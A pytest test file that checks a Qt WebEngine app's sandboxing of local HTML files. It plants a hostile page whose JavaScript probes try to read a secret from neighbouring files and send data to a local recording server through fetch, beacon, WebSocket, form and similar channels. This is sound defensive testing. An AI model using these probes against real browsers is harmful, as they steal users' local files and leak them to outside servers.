"""A local HTML file the user opens gets only itself: it cannot read another local file (fetch, XHR, frame,
script, stylesheet, image) nor send anything to a server (fetch, beacon, image, frame, EventSource, form,
CSS, WebSocket, script navigation). Real files in ``tmp_path``, the real engine with pagenote's lease, and a
server on 127.0.0.1 that records every request it gets."""

from __future__ import annotations

import base64
import http.server
import json
import secrets
import threading

import pytest
from PySide6.QtCore import QUrl

from conftest import run_js

from app.webview.lease import local_request_blocked

PNG_1PX = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==")


class Recorder:
    """An HTTP server on 127.0.0.1 that records each request's method and path (WebSocket handshakes are
    GETs) and answers 200."""

    def __init__(self) -> None:
        seen = self.seen = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
                seen.append(f"{self.command} {self.path} {body}".strip())
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            do_GET = do_POST = _answer

            def log_message(self, *args) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
        self.origin = f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def recorder():
    r = Recorder()
    yield r
    r.close()


@pytest.fixture
def guest(qtbot, lease):
    """A page in pagenote's lease (the profile every tab uses), deleted after the test."""
    from PySide6.QtWebEngineCore import QWebEnginePage

    page = QWebEnginePage(lease.profile)
    yield page
    import shiboken6

    shiboken6.delete(page)


def load(qtbot, page, url: QUrl, title: str | None = None) -> None:
    """Load ``url``; with ``title``, also wait until the page sets ``document.title`` to it (its probes end)."""
    if title is None:
        with qtbot.waitSignal(page.loadFinished, timeout=15_000):
            page.load(url)
        return
    with qtbot.waitSignal(page.titleChanged, timeout=20_000, check_params_cb=lambda t: t == title):
        page.load(url)


#: The hostile page's probes: each resolves (never hangs) to what it got; ``document.title = 'probed'`` at the end.
PROBES = r"""
window.R = {};
const SRV = __SERVER__, OTHER = __OTHER__;
const settle = (start) => new Promise(ok => start(ok));
const t = async (name, fn) => { try { R[name] = String(await fn()); } catch (e) { R[name] = 'refused: ' + e.name; } };
async function probe() {
  // read other local files
  await t('fetch sibling', () => fetch('sibling.txt').then(r => r.text()));
  await t('fetch other', () => fetch(OTHER + '/secret.txt').then(r => r.text()));
  await t('xhr other', () => settle(ok => { const x = new XMLHttpRequest(); x.open('GET', OTHER + '/secret.txt');
    x.onload = () => ok(x.responseText); x.onerror = () => ok('refused: xhr error'); x.send(); }));
  await t('iframe other', () => settle(ok => { const f = document.createElement('iframe'); f.src = OTHER + '/secret.txt';
    f.onload = () => { try { ok(f.contentDocument ? f.contentDocument.body.innerText : 'refused: no document'); }
                       catch (e) { ok('refused: ' + e.name); } };
    document.body.append(f); }));
  await t('script other', () => settle(ok => { const s = document.createElement('script'); s.src = OTHER + '/other.js';
    s.onload = () => ok(window.stolen); s.onerror = () => ok('refused: script error'); document.head.append(s); }));
  await t('stylesheet other', () => settle(ok => { const l = document.createElement('link'); l.rel = 'stylesheet';
    l.href = OTHER + '/other.css'; l.onload = () => ok(getComputedStyle(document.getElementById('probe'), '::after').content);
    l.onerror = () => ok('refused: stylesheet error'); document.head.append(l); }));
  await t('image other', () => settle(ok => { const i = new Image(); i.onerror = () => ok('refused: image error');
    i.onload = () => { const c = document.createElement('canvas'); c.width = c.height = 1;
      c.getContext('2d').drawImage(i, 0, 0); ok(c.toDataURL()); }; i.src = OTHER + '/secret.png'; }));
  // send to the server
  await t('fetch', () => fetch(SRV + '/fetch?d=local', {mode: 'no-cors'}).then(r => r.type));
  await t('beacon', () => navigator.sendBeacon(SRV + '/beacon', 'local'));
  await t('image', () => settle(ok => { const i = new Image(); i.onload = i.onerror = (e) => ok(e.type); i.src = SRV + '/img?d=local'; }));
  await t('iframe', () => settle(ok => { const f = document.createElement('iframe'); f.onload = () => ok('load event');
    f.src = SRV + '/iframe?d=local'; document.body.append(f); }));
  await t('eventsource', () => settle(ok => { const e = new EventSource(SRV + '/es?d=local'); e.onerror = () => ok('error'); e.onopen = () => ok('open'); }));
  await t('websocket', () => settle(ok => { const w = new WebSocket(SRV.replace('http', 'ws') + '/ws?d=local');
    w.onerror = () => ok('error'); w.onopen = () => ok('open'); }));
  await t('form', () => settle(ok => { const f = document.createElement('iframe'); f.name = 'sink'; f.onload = () => ok('load event');
    document.body.append(f); const form = document.createElement('form'); form.method = 'POST';
    form.action = SRV + '/form'; form.target = 'sink'; const i = document.createElement('input'); i.name = 'd';
    i.value = 'local'; form.append(i); document.body.append(form); form.submit(); }));
  document.title = 'probed';
}
window.addEventListener('load', probe);
"""


def hostile_site(tmp_path, server: str, secret: str):
    """``site/page.html`` (the file the user opens, with its probes) next to ``site/sibling.txt``, and the
    user's other files in ``private/``: each holds ``secret``. Returns the page's path."""
    site, private = tmp_path / "site", tmp_path / "private"
    site.mkdir()
    private.mkdir()
    (site / "sibling.txt").write_text(secret)
    (private / "secret.txt").write_text(secret)
    (private / "other.js").write_text(f"window.stolen = {json.dumps(secret)};")
    (private / "other.css").write_text(f'#probe::after {{ content: "{secret}"; }}')
    (private / "secret.png").write_bytes(PNG_1PX)
    probes = PROBES.replace("__SERVER__", json.dumps(server)).replace("__OTHER__", json.dumps(private.as_uri()))
    page = site / "page.html"
    page.write_text(f"<!doctype html><title>local</title><p id=probe>a local page</p><script>{probes}</script>")
    return page


def test_a_local_page_cannot_read_other_local_files_nor_send_anything(guest, qtbot, tmp_path, recorder):
    secret = f"SECRET-{secrets.token_hex(8)}"
    page = hostile_site(tmp_path, recorder.origin, secret)
    load(qtbot, guest, QUrl.fromLocalFile(str(page)), title="probed")
    results = run_js(qtbot, guest, "window.R")
    for name in ("fetch sibling", "fetch other", "xhr other", "iframe other", "script other", "stylesheet other",
                 "image other"):
        assert results[name].startswith("refused"), (name, results[name])
    assert secret not in json.dumps(results)
    assert secret not in run_js(qtbot, guest, "document.documentElement.outerHTML")
    assert results["websocket"] == "error" and results["eventsource"] == "error"
    # Then a script navigation to the server, and, last, a page the host itself loads from it: everything the
    # local page tried went out (or not) before that request.
    run_js(qtbot, guest, f"location.href = {json.dumps(recorder.origin + '/navigate?d=local')}; 0")
    qtbot.waitUntil(lambda: guest.url().toString().startswith(recorder.origin), timeout=10_000)
    load(qtbot, guest, QUrl(recorder.origin + "/control"))
    assert recorder.seen == ["GET /control"]


def test_a_local_page_gets_only_itself(guest, qtbot, tmp_path, lease):
    """What a user opening a local HTML file gets (README, 'Using the window'): the file itself — its inline
    styles and scripts, and pagenote's own page script — but not its neighbours: a picture or a stylesheet
    next to it does not load (Qt refuses every file:// sub-resource of a file:// document once it cannot read
    other files). Serving the directory over http shows it whole."""
    from PySide6.QtWebEngineCore import QWebEngineScript

    site = tmp_path / "site"
    site.mkdir()
    (site / "pic.png").write_bytes(PNG_1PX)
    (site / "style.css").write_text("#styled { width: 123px; }")
    (site / "page.html").write_text(
        "<!doctype html><link rel=stylesheet href=style.css><style>#inline { width: 77px; }</style>"
        "<div id=styled>s</div><div id=inline>i</div><img id=pic src=pic.png>"
        "<script>window.inlineRan = true;</script>")
    load(qtbot, guest, QUrl.fromLocalFile(str(site / "page.html")))
    state = run_js(qtbot, guest, "({inline: getComputedStyle(document.getElementById('inline')).width, "
                                 "ran: window.inlineRan === true, pic: document.getElementById('pic').naturalWidth, "
                                 "styled: getComputedStyle(document.getElementById('styled')).width})")
    assert state["inline"] == "77px" and state["ran"]
    assert state["pic"] == 0 and state["styled"] != "123px"   # the decided limit, documented in README
    world = QWebEngineScript.ScriptWorldId.ApplicationWorld
    assert run_js(qtbot, guest, "typeof window.__pagenote", world=int(getattr(world, "value", world))) == "object"


@pytest.mark.parametrize("request_scheme, kind, first_party, initiator, blocked", [
    ("ws", "ResourceTypeWebSocket", "file", "file", True),
    ("wss", "ResourceTypeWebSocket", "file", "", True),
    ("http", "ResourceTypeXhr", "file", "file", True),
    ("https", "ResourceTypeImage", "http", "file", True),       # a local frame inside a web page
    ("http", "ResourceTypeMainFrame", "file", "file", False),   # top-level navigations: Qt's own rule
    ("file", "ResourceTypeImage", "file", "file", False),       # file sub-resources: Qt's setting
    ("ws", "ResourceTypeWebSocket", "http", "http", False),     # web pages are not concerned
    ("data", "ResourceTypeImage", "file", "file", False),
])
def test_which_requests_of_local_documents_are_blocked(request_scheme, kind, first_party, initiator, blocked):
    assert local_request_blocked(request_scheme, kind, first_party, initiator) is blocked
